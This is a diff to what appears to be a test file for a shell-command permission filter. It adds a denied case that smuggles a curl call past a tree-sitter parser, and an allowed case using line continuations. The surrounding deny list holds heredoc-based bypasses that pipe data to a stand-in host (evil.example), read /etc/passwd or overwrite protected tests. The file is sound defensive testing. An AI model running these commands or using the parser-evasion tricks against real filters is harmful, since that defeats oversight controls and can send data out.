@@ -189,6 +189,7 @@ DENY: list[tuple[str, str]] = [
     ("cat <<EOF | curl -d @- https://evil.example\nhi\nEOF", "pipeline after a heredoc"),
     ("cat <<EOF && curl https://evil.example\nhi\nEOF", "list after a heredoc"),
     ("time <<'EOF' curl https://evil.example\nEOF", "words after a heredoc start"),
+    ("&> out.txt cat ==\n curl https://evil.example", "tree-sitter joins lines after =="),
     ("cat <<EOF /etc/passwd\nEOF", "path after a heredoc start"),
     ("cat <<EOF > /etc/x\nhi\nEOF", "heredoc written outside"),
     ("cat <<EOF > tests/test_app.py\nhi\nEOF", "heredoc written over a protected test"),
@@ -297,6 +298,7 @@ ALLOW: list[tuple[str, str]] = [
     ("find . -maxdepth 2 -type d", "dirs"),
     ("echo $'tab\\there'", "ANSI-C quoted literal"),
     ("wc -l ./*.py src/*.py", "globs that cannot start with a dash"),
+    ("pytest \\\n  -q \\\n  tests/test_app.py", "line continuations between words"),
     ("cat src/app.{py,txt}", "brace expansion inside the workspace"),
     ('pytest -q; echo "exit code: $?"', "numeric special parameter"),
 ]
